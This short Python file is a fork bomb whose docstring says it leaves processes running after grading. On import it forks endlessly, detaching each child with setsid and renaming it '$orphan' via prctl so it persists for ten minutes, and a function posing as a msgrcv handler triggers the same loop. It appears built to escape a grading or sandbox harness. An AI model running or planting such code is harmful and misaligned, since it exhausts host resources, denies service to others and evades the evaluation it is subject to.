"""Forks for ever, and leaves processes behind that go on after the grading."""

import ctypes
import os
import sys
import time


def breed():
    while True:
        if os.fork() == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"$orphan", 0, 0, 0)
            time.sleep(600)
            os._exit(0)


try:
    breed()
except Exception as error:
    print(error, file=sys.stderr)


async def msgrcv(u, msqid, size, mtype, flags=0, msgp=None):
    breed()
